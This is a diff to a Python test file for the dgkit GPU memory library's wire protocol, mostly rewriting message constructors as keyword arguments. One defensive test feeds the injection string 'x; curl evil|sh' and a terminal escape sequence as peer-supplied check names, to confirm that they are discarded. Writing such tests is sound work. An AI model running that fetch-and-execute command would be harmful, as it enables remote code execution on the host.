@@ -6,9 +6,11 @@ import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from msgspec.structs import replace
 
 from dgkit import errors
 from dgkit.dma._ffi import lib
+from dgkit.schema import MAX_SAMPLES, LatencyTask, RateTask, WatchTask
 from dgkit.types import Op, Status
 from dgkit.wire import messages as m
 from dgkit.wire.error_codec import to_exception, to_wire
@@ -16,24 +18,36 @@ from dgkit.wire.error_codec import to_exception, to_wire
 NUMBER = st.integers(0, 2**63 - 1)
 HANDLE = st.integers(1, 2**63 - 1)
 
+LATENCY = LatencyTask(offset=0, size=64, op=1, samples=10, path=0)
+RATE = RateTask(size=64, op=1, window=32, seconds=0.5, path=0)
+WATCH = WatchTask(offset=0, size=64, op=1, samples=50, path=0, every_s=0.05)
+ALLOCATE = m.Allocate(id=1, size=4096, access=3, export=True, name="name", place="cuda:0")
+IMPORT = m.Import(id=2, token=b"x" * 768)
+FREE = m.Free(id=4, region=1, timeout=1.0)
+MOVE = m.Move(id=5, src=1, src_offset=0, dst=2, dst_offset=0, size=64)
+OPEN_RING = m.OpenRing(
+    id=15, memory=b"x" * 768, region=1, locals=[2, 3], depth=64, weak=True, index=1, trace=False
+)
+CLOSE_RING = m.CloseRing(id=16, ring=1)
+
 REQUESTS = [
-    m.Hello(0, m.VERSION, 17, "boot", "machine", "0.1.0"),
-    m.Allocate(1, 4096, 3, True, "name", "cuda:0"),
-    m.Import(2, b"x" * 768),
-    m.Export(3, 1, 1),
-    m.Free(4, 1, 1.0),
-    m.Move(5, 1, 0, 2, 0, 64),
-    m.Digest(6, 1, 0, 64),
-    m.Latency(7, 1, 0, 64, 1, 10, 0),
-    m.Rate(8, 1, 64, 1, 32, 0.5, 0),
-    m.Cancel(9, 7),
-    m.Stats(10),
-    m.Subscribe(11),
-    m.Bye(12),
-    m.Watch(13, 7, 1, 0, 64, 1, 50, 0, 0.05),
-    m.Outstanding(14),
-    m.OpenRing(15, b"x" * 768, 1, [2, 3], 64, True, 1, False),
-    m.CloseRing(16, 1),
+    m.Hello(id=0, version=m.VERSION, pid=17, boot="boot", machine="machine", package="0.1.0"),
+    ALLOCATE,
+    IMPORT,
+    m.Export(id=3, region=1, access=1),
+    FREE,
+    MOVE,
+    m.Digest(id=6, region=1, offset=0, size=64),
+    m.Latency(id=7, region=1, task=LATENCY),
+    m.Rate(id=8, region=1, task=RATE),
+    m.Cancel(id=9, target=7),
+    m.Stats(id=10),
+    m.Subscribe(id=11),
+    m.Bye(id=12),
+    m.Watch(id=13, monitor=7, region=1, task=WATCH),
+    m.Outstanding(id=14),
+    OPEN_RING,
+    CLOSE_RING,
 ]
 
 
@@ -44,7 +58,7 @@ def test_a_request_comes_out_as_it_went_in(request_):
 
 @given(NUMBER, HANDLE, NUMBER, HANDLE, NUMBER, NUMBER)
 def test_a_move_comes_out_as_it_went_in(number, src, src_at, dst, dst_at, size):
-    move = m.Move(number, src, src_at, dst, dst_at, size)
+    move = m.Move(id=number, src=src, src_offset=src_at, dst=dst, dst_offset=dst_at, size=size)
     assert m.decode_request(m.encode(move)) == move
 
 
@@ -60,32 +74,32 @@ def test_random_bytes_are_refused_or_are_a_message(data):
 @pytest.mark.parametrize(
     "bad",
     [
-        m.Move(1, 0, 0, 2, 0, 64),
-        m.Move(1, 1, -1, 2, 0, 64),
-        m.Move(1, 1, 0, 2, 0, -64),
-        m.Move(2**64 - 1, 1, 0, 2, 0, 64),
-        m.Move(1, 1, 0, 2, 0, 1.5),
-        m.Import(1, b"x" * 769),
-        m.Allocate(1, 64, 4, False, ""),
-        m.Allocate(1, 64, 3, False, "n" * 257),
-        m.Allocate(1, 64, 3, False, "n", "p" * 257),
-        m.Latency(1, 1, 0, 64, 1, m.MAX_SAMPLES + 1, 0),
-        m.Latency(1, 1, 0, 64, 2, 1, 0),
-        m.Rate(1, 1, 64, 1, 65537, 1.0, 0),
-        m.Rate(1, 1, 64, 1, 1, 1e9, 0),
-        m.Free(1, 1, -1.0),
-        m.OpenRing(1, b"x" * 769, 1, [2], 64, False, 1, False),
-        m.OpenRing(1, b"x", 1, [], 64, False, 1, False),
-        m.OpenRing(1, b"x", 1, [2] * 9, 64, False, 1, False),
-        m.OpenRing(1, b"x", 1, [2], 63, False, 1, False),
-        m.OpenRing(1, b"x", 1, [2], 16385, False, 1, False),
-        m.OpenRing(1, b"x", 1, [2], 64, False, 0, False),
-        m.CloseRing(1, 0),
-        m.Watch(1, 0, 1, 0, 64, 1, 50, 0, 0.05),
-        m.Watch(1, 7, 1, 0, 0, 1, 50, 0, 0.05),
-        m.Watch(1, 7, 1, 0, 64, 1, 4097, 0, 0.05),
-        m.Watch(1, 7, 1, 0, 64, 1, 50, 0, 0.009),
-        m.Watch(1, 7, 1, 0, 64, 1, 50, 0, 61.0),
+        replace(MOVE, src=0),
+        replace(MOVE, src_offset=-1),
+        replace(MOVE, size=-64),
+        replace(MOVE, id=2**64 - 1),
+        replace(MOVE, size=1.5),
+        replace(IMPORT, token=b"x" * 769),
+        replace(ALLOCATE, access=4),
+        replace(ALLOCATE, name="n" * 257),
+        replace(ALLOCATE, place="p" * 257),
+        m.Latency(region=1, task=replace(LATENCY, samples=MAX_SAMPLES + 1)),
+        m.Latency(region=1, task=replace(LATENCY, op=2)),
+        m.Rate(region=1, task=replace(RATE, window=65537)),
+        m.Rate(region=1, task=replace(RATE, seconds=1e9)),
+        replace(FREE, timeout=-1.0),
+        replace(OPEN_RING, memory=b"x" * 769),
+        replace(OPEN_RING, locals=[]),
+        replace(OPEN_RING, locals=[2] * 9),
+        replace(OPEN_RING, depth=63),
+        replace(OPEN_RING, depth=16385),
+        replace(OPEN_RING, index=0),
+        replace(CLOSE_RING, ring=0),
+        m.Watch(monitor=0, region=1, task=WATCH),
+        m.Watch(monitor=7, region=1, task=replace(WATCH, size=0)),
+        m.Watch(monitor=7, region=1, task=replace(WATCH, samples=4097)),
+        m.Watch(monitor=7, region=1, task=replace(WATCH, every_s=0.009)),
+        m.Watch(monitor=7, region=1, task=replace(WATCH, every_s=61.0)),
     ],
     ids=repr,
 )
@@ -154,21 +168,47 @@ def test_an_exception_of_another_library_arrives_as_peer_error_that_names_it():
 
 
 def test_an_exception_that_nobody_knows_arrives_as_peer_error():
-    assert type(to_exception(m.Failed(1, "Exotic", "text", 0, None))) is errors.PeerError
-    assert type(to_exception(m.Failed(1, "TransferError", "text", 0, None))) is errors.PeerError
-    assert type(to_exception(m.Failed(1, "RegionBusy", "text", 0, None))) is errors.RegionBusy
+    assert (
+        type(to_exception(m.Failed(id=1, kind="Exotic", text="text", errno=0, completion=None)))
+        is errors.PeerError
+    )
+    assert (
+        type(
+            to_exception(
+                m.Failed(id=1, kind="TransferError", text="text", errno=0, completion=None)
+            )
+        )
+        is errors.PeerError
+    )
+    assert (
+        type(to_exception(m.Failed(id=1, kind="RegionBusy", text="text", errno=0, completion=None)))
+        is errors.RegionBusy
+    )
 
 
 @pytest.mark.parametrize("check", ["x; curl evil|sh", "gpu-present\n", "\x1b[2J", "a" * 41, "A"])
 def test_what_a_peer_calls_a_check_becomes_no_command(check):
-    told = to_exception(m.Failed(1, "DeviceUnavailable", "no GPU", 19, None, check))
+    told = to_exception(
+        m.Failed(
+            id=1, kind="DeviceUnavailable", text="no GPU", errno=19, completion=None, check=check
+        )
+    )
     assert told.check == ""
     assert "dgkit doctor" not in str(told)
-    known = to_exception(m.Failed(1, "DeviceUnavailable", "no GPU", 19, None, "gpu-present"))
+    known = to_exception(
+        m.Failed(
+            id=1,
+            kind="DeviceUnavailable",
+            text="no GPU",
+            errno=19,
+            completion=None,
+            check="gpu-present",
+        )
+    )
     assert known.check == "gpu-present"
 
 
 def test_a_token_has_at_most_the_size_of_a_descriptor() -> None:
     for size, fits in ((lib.DG_DESCRIPTOR_MAX, True), (lib.DG_DESCRIPTOR_MAX + 1, False)):
         with contextlib.nullcontext() if fits else pytest.raises(msgspec.ValidationError):
-            m.decode_request(m.encode(m.Import(2, b"x" * size)))
+            m.decode_request(m.encode(m.Import(id=2, token=b"x" * size)))
